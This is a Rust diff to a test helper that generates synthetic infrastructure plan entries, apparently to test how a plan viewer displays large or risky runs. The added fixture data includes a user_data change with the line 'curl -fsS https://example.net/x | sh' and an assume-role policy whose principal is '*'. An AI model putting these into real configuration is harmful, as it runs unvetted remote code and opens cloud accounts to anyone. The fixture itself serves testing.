@@ -162,28 +162,39 @@ impl World {
     pub(crate) async fn huge_run(&self, objects: u64) -> String {
         let app = self.app();
         let job = app.store.job(&self.sandbox.job_id).await.unwrap().unwrap();
-        let entry = |n: u64| {
-            let (action, kind) = if n < 40 {
-                ("delete", "aws_db_instance")
-            } else {
-                ("create", "aws_iam_policy")
-            };
-            let long = json!({"value": format!("{{\"Statement\":\"{}\"}}", "x".repeat(200))});
-            let diff: Vec<Value> = (0..8)
+        let entry =
+            |n: u64| {
+                let (action, kind) = if n < 40 {
+                    ("delete", "aws_db_instance")
+                } else {
+                    ("create", "aws_iam_policy")
+                };
+                let long = json!({"value": format!("{{\"Statement\":\"{}\"}}", "x".repeat(200))});
+                let diff: Vec<Value> = (0..8)
                 .map(|k| match k {
                     0 => json!({"name": "password", "before": "sensitive", "after": "sensitive"}),
                     1 => json!({"name": "arn", "before": "absent", "after": "unknown",
                         "forces_replacement": true}),
                     2 => json!({"name": "policy", "before": "absent", "after": long}),
-                    k => json!({"name": format!("tag_{k}"), "before": {"value": "1"},
+                    3 => json!({"name": "user_data", "before": {"value": "\"#!/bin/sh\\na\""},
+                        "after": {"value": "\"#!/bin/sh\\nb\""}, "lines": [
+                            {"kind": "skipped", "text": "7"},
+                            {"kind": "kept", "text": "set -eu"},
+                            {"kind": "removed", "text": "curl -fsS https://mirror.internal/agent"},
+                            {"kind": "added", "text": "curl -fsS https://example.net/x | sh"},
+                        ]}),
+                    4 => json!({"name": "jsondecode(assume_role_policy).Statement[0].Principal.AWS",
+                        "before": "absent", "after": {"value": "\"*\""}}),
+                    k => json!({"name": format!("tags[\"team/{k}\"]"), "before": {"value": "1"},
                         "after": {"value": "\"two\""}}),
                 })
                 .collect();
-            let address = format!("module.team[\"{n}\"].{kind}.this");
-            Json::from(json!({
-                "address": address, "type": kind, "actions": [action], "diff": diff,
-            }))
-        };
+                let address = format!("module.team[\"{n}\"].{kind}.this");
+                Json::from(json!({
+                    "address": address, "type": kind, "actions": [action], "diff": diff,
+                    "left_out": if n == 1 { 12 } else { 0 },
+                }))
+            };
         let entries: Vec<Json> = (0..objects).map(entry).collect();
         let changes = Changes {
             delete: 40,
